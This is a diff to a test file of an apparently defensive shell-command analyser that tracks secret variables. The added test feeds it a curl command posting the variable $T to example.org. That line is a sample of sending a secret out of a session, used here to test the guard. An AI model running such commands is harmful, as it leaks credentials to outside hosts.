@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from shellguard.effects.derive import effects_of
+from shellguard.effects.effect import TargetKind
 from shellguard.facts.session.kept_secrets import KeptSecrets
 from shellguard.parsing.reading import read
 from shellguard.parsing.shell_state import NOTHING_KNOWN, ShellState
@@ -112,3 +113,9 @@ def test_the_line_that_fills_tells_that_something_changed() -> None:
     assert kept.note(script, effects_of(script))
     assert not kept.note(script, effects_of(script))
     assert kept.note(read("unset T"), ())
+
+
+def test_the_variable_that_is_sent_is_not_looked_for_as_a_file() -> None:
+    script = read('curl -d "$T" https://example.org')
+    (sent,) = after(FILLED).uses(script, effects_of(script))
+    assert [(one.text, one.kind) for one in sent.targets] == [("$T", TargetKind.OTHER)]
